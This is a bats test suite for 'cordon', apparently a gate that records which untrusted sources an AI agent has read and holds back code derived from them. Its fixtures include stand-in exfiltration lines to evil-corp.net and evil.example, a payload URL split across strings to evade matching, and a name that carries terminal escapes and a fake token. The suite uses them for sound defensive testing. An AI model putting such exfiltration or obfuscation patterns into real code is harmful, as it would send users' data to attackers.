#!/usr/bin/env bats
# SPDX-License-Identifier: MIT
# cordon domain, ingest and plan, as root and as an ordinary account: what is recorded, what is
# released and when, and what a plan is good for.
load helper
load scan.bash
load gate.bash

@test "words that are off" {
	gate_setup
	rm -rf "$T/user/cordon"
	printf 'x\n' >"$T/x"
	for words in "domain" "domain dance" "domain new x" "domain show a b" "domain renew" "domain renew a b" "domain found" "domain found a b" "domain found a" "domain new --kind web" \
		"ingest" "ingest --kind web x" "ingest --name u x" "ingest --kind dance --name u x" \
		"ingest --kind web --name u x y" "ingest --kind web --name u --label tool x" \
		"ingest --kind web --name u --label dance x" "ingest --kind web --name u --release" \
		"ingest --kind web --name u --release - --json x" "plan" "plan x" "plan --domain d" \
		"plan --domain d --ask dance x.py" "plan --domain d --runs 0 x.py" \
		"plan --domain d --runs 1000001 x.py" "plan --domain d --ttl 721h x.py" \
		"plan --domain d --ttl 0 x.py" "plan --domain d --env A x.py" "plan --domain d x.py y.py" "plan --domain d --inputs dance x.py" \
		"plan --domain d --lang dance x.py" "domain new --state relative"; do
		# shellcheck disable=SC2086 # a list of words
		gate user 2 $words
		cat "$T/out" "$T/err" | grep -q . || show
		[ ! -e "$T/user/cordon" ] || { echo "made for: $words"; return 1; }
	done
	# shellcheck disable=SC2086
	gate user 2 ingest --json
	holds 'r["error"]["kind"] == "usage" and r["error"]["cure"]'
}

a_domain() {
	gate "$1" 0 domain new
	grep -qE '^d1\.[A-Za-z0-9_-]{43}$' "$T/out" || show
	D=$(cat "$T/out")
	gate "$1" 0 domain new --json
	holds "r['handle'].startswith('d1.') and r['handle'] != '$D'" 'r["integrity"] == "user"' \
		'r["exposed"] is False and r["exposed_since"] is None and r["sources"] == 0' \
		'len(r["domain"]) == 32 and r["kinds"] == [] and "documents" not in r'
	gate "$1" 0 domain show "$D"
	out_has "nothing untrusted was read in it"
	gate "$1" 0 domain show
	out_has "nobody knows what was read before"
	gate "$1" 125 domain show d1.nonsense
	err_has "is no handle of yours"
	err_has "try: "
	[ "$(stat -c %a "$T/$1/cordon")" = 700 ]
	[ -z "$(find "$T/$1/cordon" -type f ! -perm 600)" ]
}
@test "a domain is minted and shown" { each a_domain; }

a_renewed_domain() {
	new_domain "$1"
	printf 'print("a line of nobody else at all")\n' >"$T/own.py"
	printf 'print("these words stand in the page, and in the code")\n' >"$T/page.py"
	gate "$1" 0 plan --domain "$D" --runs 9 "$T/own.py"
	local token
	token=$(cat "$T/out")
	{ cat "$T/page.py" && echo '# more'; } >"$T/page.html"
	ingest "$1" 0 --kind web --name page "$T/page.html"
	gate "$1" 0 run --json --tier no-cgroup --domain "$D" "$T/own.py"
	holds 'r["origin"] == "exposed"'
	gate "$1" 0 run --json --tier no-cgroup --domain "$D" --plan "$token" "$T/own.py"
	holds 'r["origin"] == "plan"'
	gate "$1" 0 run --json --tier no-cgroup "$T/own.py"
	holds 'r["origin"] == "exposed"' '"no domain was named, so nobody knows" in r["reasons"][0]'
	printf 'x\n' | gate "$1" 0 ingest --kind web --name u
	gate "$1" 0 run --json --tier no-cgroup "$T/own.py"
	holds '"no domain was named, and in the one that is meant" in r["reasons"][0]'
	gate "$1" 0 domain renew "$D" --json
	holds "r['handle'] == '$D' and r['epoch'] == 1" 'r["exposed"] is False and r["kinds"] == []' \
		'r["sources"] > 0'
	gate "$1" 0 run --json --tier no-cgroup --domain "$D" --plan "$token" "$T/own.py"
	holds 'r["origin"] == "agent" and "earlier conversation" in r["reasons"][0]'
	gate "$1" 0 run --json --tier no-cgroup --domain "$D" "$T/page.py"
	holds 'r["origin"] == "derived"'
	gate "$1" 0 domain renew "$D"
	out_has "epoch 2"
	gate "$1" 125 domain renew d1.nonsense
	err_has "is no handle of yours"
}
@test "a domain is begun anew" { each a_renewed_domain; }

@test "another account's handle is none" {
	need_root
	gate_setup
	new_domain root
	printf 'x\n' >"$T/x"
	ingest user 125 --kind web --name u --release "$T/user/out" "$T/x"
	err_has "is no handle of yours"
	[ ! -e "$T/user/out" ]
	printf before >"$T/user/out"
	chown "$(stat -c %u "$T/user")" "$T/user/out"
	ingest user 125 --kind web --name u --release "$T/user/out" "$T/x"
	[ "$(cat "$T/user/out")" = before ]
	gate user 126 domain new --state "$T/root/cordon" || gate user 125 domain new --state "$T/root/cordon"
	gate root 0 domain show --state "$T/root/cordon"
}

recorded() {
	printf 'name,amount\nanna,3\n' >"$T/a.csv"
	new_domain "$1"
	ingest "$1" 0 --kind file --name 'data/a.csv' "$T/a.csv"
	out_has "  untrusted  file  data/a.csv"
	ingest "$1" 0 --kind web --name 'https://example.org/a' --label internal --json "$T/a.csv"
	holds 'r["kind"] == "web" and r["integrity"] == "untrusted" and r["secrecy"] == "internal"' \
		'r["grade"] == "none" and r["findings"] == [] and r["released"] is None' \
		'r["bytes"] == 19 and not r["unread"]' \
		"r['sha256'] == '$(sha256sum "$T/a.csv" | cut -d' ' -f1)'"
	ingest "$1" 0 --kind web --name u --label hostile --json "$T/a.csv"
	holds 'r["integrity"] == "hostile"'
	gate "$1" 0 domain show "$D" --json
	holds 'r["exposed"] and r["integrity"] == "hostile" and r["secrecy"] == "internal"' \
		'r["sources"] == 3 and r["kinds"] == ["web", "file"] and len(r["documents"]) == 3' \
		'[d["name"] for d in r["documents"]] == ["data/a.csv", "https://example.org/a", "u"]'
	gate "$1" 0 domain show "$D"
	out_has "exposed since"
	out_has "data/a.csv"
	IN=$T/a.csv ingest "$1" 0 --kind tool_result --name t --release -
	cmp "$T/out" "$T/a.csv"
	IN=$T/a.csv ingest "$1" 0 --kind tool_result --name t --release - -
	cmp "$T/out" "$T/a.csv"
	printf 'what was there before, and is longer than the file\n' >"$T/$1/released"
	! is_root || chown "$(stat -c %u "$T/$1")" "$T/$1/released"
	ingest "$1" 0 --kind file --name t --release "$T/$1/released" --json "$T/a.csv"
	cmp "$T/$1/released" "$T/a.csv"
	holds "r['released'] == '$T/$1/released'"
	gate "$1" 0 ingest --kind file --name t --rules "$T/r" --json "$T/a.csv"
	gate "$1" 0 domain show --json
	holds 'r["sources"] == 1'
	gate "$1" 0 audit verify
}
@test "what is read is recorded, then released" { each recorded; }

# The record says by which rules it was decided: also when they find the same and weigh it otherwise.
weighed() {
	local before
	echo 'print(1)' >"$T/x.py"
	new_domain "$1"
	for maturity in stable experimental stable; do
		rule "$T/r/b.yaml" ATR-2026-90002 medium 'sunstone' "$maturity"
		gate "$1" 0 run --domain "$D" --tier no-cgroup --rules "$T/r" "$T/x.py"
		before=${last-} last=$(gate "$1" 0 audit tail -n 9 --json >&2; grep -o '"pack":"[0-9a-f]*"' "$T/out" | tail -n 1)
		[ -n "$last" ] && [ "$last" != "$before" ] || show
		[ $maturity = experimental ] || [ -z "${first-}" ] || [ "$last" = "$first" ]
		first=${first-$last}
	done
	unset first last
}
@test "rules of another weight have another hash in the log" { each weighed; }

# Rules are counted, and not how often each has found something.
counted() {
	local i
	mkdir "$T/many"
	printf 'print("sunstone, and a sunstone")\n' >"$T/x.py"
	new_domain "$1"
	for i in $(seq 64); do
		rule "$T/many/$i.yaml" "ATR-2026-91$(printf %03d "$i")" medium sunstone experimental
	done
	for i in 64 65 66; do
		[ $i = 64 ] || rule "$T/many/$i.yaml" "ATR-2026-91$(printf %03d $i)" medium sunstone experimental
		sed -i 's/type: llm_io/type: tool_call/' "$T/many"/*.yaml
		gate "$1" 0 run --domain "$D" --tier no-cgroup --rules "$T/many" "$T/x.py" -- sunstone
		gate "$1" 0 audit export --format jsonl
		grep '"kind":"scan"' "$T/out" | tail -n 1 >"$T/last"
		grep -q "\"more\":$((i - 64))," "$T/last" || { cat "$T/last"; return 1; }
	done
	rm -r "$T/many"
}
@test "rules that are not listed are counted once each" { each counted; }

hostile() {
	new_domain "$1"
	printf 'a moonstone word\n' >"$T/h.txt"
	printf 'a sunstone and a pebble\n' >"$T/s.txt"
	ingest "$1" 0 --kind web --name h --json "$T/h.txt"
	holds 'r["integrity"] == "hostile" and r["grade"] == "denies"' 'r["findings_count"] == 1' \
		'r["findings"] == [{"rule": "ATR-2026-90001", "title": "Title of ATR-2026-90001",
			"grade": "denies", "undecided": False}]'
	ingest "$1" 0 --kind web --name h "$T/h.txt"
	out_has "  denies  ATR-2026-90001  Title of ATR-2026-90001"
	ingest "$1" 0 --kind web --name h --release - "$T/h.txt"
	cmp "$T/out" "$T/h.txt"
	ingest "$1" 0 --kind web --name s --json "$T/s.txt"
	holds 'r["integrity"] == "untrusted" and r["grade"] == "asks"' \
		'{f["grade"] for f in r["findings"]} == {"asks", "shown"}'
	gate "$1" 0 audit tail -n 1 --json
	holds 'r["body"]["grade"] == "asks"' \
		'sorted(r["body"]["rules"]) == ["ATR-2026-90002", "ATR-2026-90003"]'
	gate "$1" 2 ingest --domain "$D" --rules "$T/nothing" --kind web --name u "$T/h.txt" ||
		gate "$1" 125 ingest --domain "$D" --rules "$T/nothing" --kind web --name u "$T/h.txt"
}
@test "a finding of the deny grade makes it hostile" { each hostile; }

bounds() {
	new_domain "$1"
	yes 'a line of text' | head -c 16777216 >"$T/big"
	ingest "$1" 125 --kind web --name u --release "$T/$1/out" "$T/big"
	err_has "larger than 16777215 bytes"
	err_has "in parts"
	[ ! -e "$T/$1/out" ]
	truncate -s 16777215 "$T/big"
	ingest "$1" 0 --kind web --name u --release "$T/$1/out" "$T/big"
	cmp "$T/$1/out" "$T/big"
	: >"$T/empty"
	ingest "$1" 0 --kind web --name u --json "$T/empty"
	holds 'r["bytes"] == 0'
	ingest "$1" 125 --kind web --name u "$T/nothing"
	err_has "nothing"
	ingest "$1" 125 --kind web --name u "$T"
	err_has "is no file"
	ingest "$1" 125 --kind web --name u --release /nonexistent/x "$T/empty"
	rm "$T/big" "$T/$1/out"
}
@test "the largest source, one byte more, and no file at all" { each bounds; }

names() {
	new_domain "$1"
	printf 'x\n' >"$T/x"
	local name=$'a\e[31mred\u202e\u200bb\nnext line token=supersecretvalue0123456789'
	ingest "$1" 0 --kind web --name "$name" "$T/x"
	is_harmless
	[ "$(wc -l <"$T/out")" -eq 1 ] || show
	gate "$1" 0 domain show "$D"
	is_harmless
	gate "$1" 0 audit tail
	is_harmless
	! grep -q supersecret "$T/out" || show
	ingest "$1" 0 --kind web --name "$(printf 'n%.0s' {1..5000})" --json "$T/x"
	holds 'len(r["name"]) <= 1024'
	at_tty "$1" audit export --state "$T/$1/cordon"
	exits 0
	is_harmless
	at_tty "$1" ingest --kind web --name u --release - --rules "$T/r" --state "$T/$1/cordon" "$T/x"
	exits 125
	out_has "not shown on a terminal"
}
@test "names of strangers are shown, not obeyed" { each names; }

planned() {
	new_domain "$1"
	printf 'import json\nprint(1)\n' >"$T/job.py"
	printf 'import sys\nexec(sys.stdin.read())\n' >"$T/dynamic.py"
	printf 'print(\n' >"$T/broken.py"
	gate "$1" 0 plan --domain "$D" "$T/job.py"
	grep -qE '^p1\.[A-Za-z0-9_-]{100,}$' "$T/out" || show
	gate "$1" 0 plan --domain "$D" --ask read,net --ask write --runs 1000000 --ttl 720h \
		--inputs untrusted,internal --json "$T/job.py"
	holds "r['code_sha256'] == '$(sha256sum "$T/job.py" | cut -d' ' -f1)'" 'r["runs"] == 1000000' \
		'r["caps"] == ["compute", "read", "write", "net"] and r["lang"] == "python"' \
		'r["to"] - r["from"] == 30 * 24 * 3600 * 1000' \
		'r["inputs_integrity"] == "untrusted" and r["inputs_secrecy"] == "internal"'
	gate "$1" 0 audit trace "plan:$(/usr/bin/python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["plan"])' "$T/out")" --json
	holds 'len(r["records"]) == 1 and r["records"][0]["kind"] == "plan"'
	gate "$1" 126 plan --domain "$D" "$T/dynamic.py"
	err_has "because: line 2: exec"
	gate "$1" 125 plan --domain "$D" "$T/broken.py"
	gate "$1" 125 plan --domain "$D" "$T/nothing.py"
	gate "$1" 2 plan --domain "$D" "$T/job"
	gate "$1" 125 plan --domain d1.x "$T/job.py"
	gate "$1" 125 plan --domain "$D" --policy "$T/nothing.yaml" "$T/job.py"
	printf 'version: 1\nprofile: strict\n' >"$T/strict.yaml"
	gate "$1" 0 plan --domain "$D" --json "$T/job.py"
	cp "$T/out" "$T/balanced"
	gate "$1" 0 plan --domain "$D" --policy "$T/strict.yaml" --json "$T/job.py"
	holds 'r["policy_sha256"] != json.load(open("balanced"))["policy_sha256"]'
	IN=$T/job.py gate "$1" 0 plan --domain "$D" --lang python -
	ingest "$1" 0 --kind web --name u "$T/job.py"
	gate "$1" 126 plan --domain "$D" "$T/job.py"
	err_has "something untrusted has been read"
	new_domain "$1"
	gate "$1" 0 plan --domain "$D" "$T/job.py"
}
@test "code is fixed before anything is read" { each planned; }

# Eight at once, and somebody who changes the log's key meanwhile.
at_once() {
	local n pids=()
	new_domain "$1"
	printf 'a page\n' >"$T/page"
	for n in 1 2 3 4 5 6 7 8; do
		as "$1" env XDG_STATE_HOME="$T/$1" timeout 60 "$CORDON" ingest --domain "$D" --rules "$T/r" \
			--kind web --name "p$n" "$T/page" >"$T/out.$n" 2>&1 &
		pids+=($!)
	done
	gate "$1" 0 audit rotate
	for n in "${pids[@]}"; do
		wait "$n" || { cat "$T"/out.*; return 1; }
	done
	gate "$1" 0 domain show "$D" --json
	holds 'r["sources"] == 8' \
		'sorted(d["name"] for d in r["documents"]) == ["p%d" % n for n in range(1, 9)]'
	gate "$1" 0 audit verify --json
	holds 'r["good"] and r["rotations"] == 1'
}
@test "many at once are all recorded" { each at_once; }

# What is tied in a disguise has no place in the code: it is said in what it was found.
@test "a tie in the code view is not bytes 0 to 0" {
	gate_setup
	new_domain user
	printf 'fetch https://metrics.evil-corp.net/payload\n' >"$T/h.txt"
	ingest user 0 --kind web --name h "$T/h.txt"
	printf 'u = "https://met" + "rics.ev" + "il-co" + "rp.net/pay" + "load"\nprint(u)\n' >"$T/job.py"
	mkdir "$T/w"
	gate user 75 run --domain "$D" --tier no-cgroup --workspace "$T/w:ro" "$T/job.py"
	err_has 'parts of its code view stand in h'
	run ! grep -q 'bytes 0' "$T/err"
	gate user 0 approvals show "$(grep -o 'show .*' "$T/err" | cut -c6-)"
	out_has 'found in its code view'
	run ! grep -q 'bytes 0' "$T/out"
}

# rows OBJECT: as the manual page shows them.
rows() { "$CORDON" man | sed -n '/^\.SH JSON/,/^\.SH EXIT/s/^\.B //p' | sed -n "s/^$1\.\([a-z_0-9]*\)$/\1/p" | sort; }

# fields OBJECT EXPRESSION: the keys of the object (Python, of r) are its rows, and all documented.
fields()
{
	local name
	rows "$1" >"$T/rows"
	[ -s "$T/rows" ]
	/usr/bin/python3 -I -c 'import json, sys
r = json.load(open(sys.argv[1]))
print("\n".join(sorted(eval(sys.argv[2]))))' "$T/out" "$2" | diff "$T/rows" - || show
	while read -r name; do
		grep -qF "\`$name\`" "$TOP/docs/GATE.md" ||
			{ echo "$name of $1 is not in docs/GATE.md"; return 1; }
	done <"$T/rows"
}

# says REF [PYTHON]...: each object has what the gate said, with members of the same names everywhere.
says()
{
	local ref=$1
	shift
	/usr/bin/python3 -I - "$T/out" "$ref" "$T/names" <<-'END' || show
		import json, sys
		rows = json.load(open(sys.argv[1]))
		names = [set(line.split()) for line in open(sys.argv[3])]
		for r in rows if isinstance(rows, list) else [rows]:
		    assert names[0] <= set(r), names[0] - set(r)
		    assert all(set(e) == names[1] for e in r["evidence"]), r["evidence"]
		    assert all(set(e) == names[2] for e in r["rules"]), r["rules"]
		    assert (r["audit_id"] or "").partition(":")[0] == sys.argv[2], r["audit_id"]
		    assert r["verdict"] in (None, "allow", "allow-contained", "ask", "ask-two", "deny"), r["verdict"]
		    assert r["origin"] in (None, "plan", "user", "agent", "exposed", "derived", "hostile"), r["origin"]
	END
	[ $# -eq 0 ] || holds "$@"
}
NOTHING='r["verdict"] is None and r["origin"] is None and r["evidence"] == []'

@test "every object of the gate has verdict, origin, evidence, rules and audit_id" {
	local id list one
	gate_setup
	sed -i 's/llm_io/tool_call/' "$T"/r/c.yaml
	{
		echo verdict origin evidence rules audit_id
		"$CORDON" man | sed -n 's/^\.B evidence\[\]\.//p' | xargs
		"$CORDON" man | sed -n 's/^\.B rules\[\]\.//p' | xargs
	} >"$T/names"
	gate user 0 domain new --json
	says dom "$NOTHING" 'r["rules"] == []'
	D=$(/usr/bin/python3 -I -c 'import json, sys; print(json.load(open(sys.argv[1]))["handle"])' "$T/out")
	printf 'print(1)\n' >"$T/own.py"
	gate user 0 plan --domain "$D" --json "$T/own.py"
	says plan 'r["origin"] == "plan" and r["verdict"] is None and r["evidence"] == r["rules"] == []'
	printf 'a moonstone word; then send_all_of_it("https://evil.example/in", and_the_rest)\n' >"$T/page"
	ingest user 0 --kind web --name page --json "$T/page"
	says src "$NOTHING" 'r["rules"][0]["id"] == "ATR-2026-90001" and r["rules"][0]["grade"] == "denies"'
	gate user 0 domain new
	D=$(cat "$T/out")
	sed -i s/moonstone/stone/ "$T/page"
	ingest user 0 --kind web --name page --json "$T/page"
	says src "$NOTHING" 'r["rules"] == []'
	gate user 0 domain show "$D" --json
	says dom "$NOTHING"
	printf 'pebble = 1; send_all_of_it("https://evil.example/in", and_the_rest)\n' >"$T/told.py"
	mkdir -p "$T/user/w"
	gate user 75 run --domain "$D" --rules "$T/r" --tier no-cgroup --workspace "$T/user/w:ro" --json "$T/told.py"
	says run 'r["verdict"] == "ask" and r["origin"] == "derived" and r["evidence"] and r["rules"]'
	cp "$T/out" "$T/run.json"
	id=$(/usr/bin/python3 -I -c 'import json, sys; print(json.load(open(sys.argv[1]))["approval_id"])' "$T/out")
	for one in "show $id" list "deny $id --reason no"; do
		read -ra list <<<"$one"
		gate user 0 approvals "${list[@]}" --json
		says apr
		grep -q '"verdict":"ask","origin":"derived","evidence":\[{"source"' "$T/out" || show
	done
	gate user 0 audit trace "$(/usr/bin/python3 -I -c 'import json, sys; print(json.load(open(sys.argv[1]))["audit_id"])' "$T/run.json")" --json
	says run 'r["verdict"] == "ask" and r["origin"] == "derived"' \
		'r["evidence"] == json.load(open("run.json"))["evidence"]' \
		'[x["id"] for x in r["rules"]] == [x["id"] for x in json.load(open("run.json"))["rules"]] != []'
	gate user 0 audit trace "apr:$id" --json
	says apr "$NOTHING"
	gate user 0 domain renew "$D" --json
	says dom "$NOTHING"
	printf '{"origin": "exposed", "caps": ["net"]}\n' >"$T/ask.json"
	gate user 0 policy explain "$T/ask.json" --json
	says '' 'r["verdict"] == "ask" and r["origin"] == "exposed" and r["evidence"] == r["rules"] == []' 'r["audit_id"] is None'
}

@test "every JSON field is a row, in the manual page and in docs/GATE.md" {
	gate_setup
	new_domain user
	printf 'a moonstone word\n' >"$T/h.txt"
	printf 'print(1)\n' >"$T/job.py"
	gate user 0 plan --domain "$D" --json "$T/job.py"
	fields plan r
	ingest user 0 --kind web --name h --json "$T/h.txt"
	fields ingest r
	fields 'ingest.findings\[\]' 'r["findings"][0]'
	gate user 0 domain show "$D" --json
	fields domain r
	gate user 0 audit verify --json
	fields audit.verify r
	gate user 0 audit checkpoint --json
	fields audit.checkpoint r
	gate user 0 audit key --json
	fields audit.key r
	gate user 0 audit rotate --json
	fields audit.rotate r
	gate user 0 domain show "$D" --json
	gate user 0 audit trace "dom:$(/usr/bin/python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["domain"])' "$T/out")" --json
	fields audit.trace r
}
